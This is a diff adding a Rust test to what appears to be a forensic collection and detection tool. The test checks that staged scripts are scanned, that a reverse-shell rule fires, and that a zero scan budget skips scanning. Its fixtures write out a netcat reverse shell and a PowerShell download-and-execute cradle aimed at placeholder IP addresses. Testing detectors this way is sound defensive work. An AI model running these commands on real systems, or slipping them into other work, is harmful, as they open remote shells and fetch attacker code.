@@ -660,3 +660,63 @@ fn a_flat_directory_of_20000_files() {
     assert_eq!(archive.collector("temp_scripts")["status"], "ok");
     eprintln!("20,000 flat files collected in {:?}", started.elapsed());
 }
+
+/// A staged script's text is read by detection: the reverse shell inside `/tmp/.x/evil.sh`
+/// is a finding that names its C2 address and points at the script's record and copy, and a
+/// UTF-16 `.ps1` is read as text too. Past `max_scan_bytes`, scripts are collected but not
+/// scanned, and the log says how many.
+#[test]
+fn staged_script_text_is_judged_by_the_rules() {
+    let r = RootBuilder::new();
+    r.mkdir("etc");
+    r.write(
+        "tmp/.x/evil.sh",
+        b"#!/bin/sh\nsleep 5\nnc -e /bin/sh 198.51.100.7 4444\n",
+    );
+    let ps: Vec<u8> = "\u{feff}$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.9/a.ps1')\r\n"
+        .encode_utf16()
+        .flat_map(|u| u.to_le_bytes())
+        .collect();
+    r.write("tmp/stage.ps1", &ps);
+    r.write("tmp/ok.sh", b"#!/bin/sh\necho hello\n");
+    let (_out, mut archive, _run) = run(r.path(), &profile(""));
+    let findings: Vec<Value> = String::from_utf8(archive.member("findings.jsonl"))
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let about = |needle: &str| -> Vec<&Value> {
+        findings
+            .iter()
+            .filter(|f| f.to_string().contains(needle))
+            .collect()
+    };
+    let shell = about("198.51.100.7");
+    assert!(
+        shell.iter().any(|f| f["rule_id"] == "unix-reverse-shell"),
+        "{shell:?}"
+    );
+    let ev = &shell[0]["evidence"];
+    assert!(
+        ev.to_string().contains("records/temp_scripts.jsonl"),
+        "{ev}"
+    );
+    assert!(ev.to_string().contains("files/tmp/.x/evil.sh"), "{ev}");
+    assert!(
+        !about("198.51.100.9").is_empty(),
+        "the UTF-16 script: {findings:?}"
+    );
+    assert!(
+        about("ok.sh")
+            .iter()
+            .all(|f| f["rule_id"] != "unix-reverse-shell")
+    );
+
+    // No scan budget: the scripts are still collected, their text is not judged.
+    let (_out, mut archive, _run) = run(r.path(), &profile("max_scan_bytes = \"0 B\""));
+    let text = String::from_utf8(archive.member("findings.jsonl")).unwrap();
+    assert!(!text.contains("unix-reverse-shell"), "{text}");
+    let log = String::from_utf8(archive.member("collection.log")).unwrap();
+    assert!(log.contains("max_scan_bytes"), "{log}");
+    assert_eq!(archive.records("temp_scripts").len(), 3);
+}
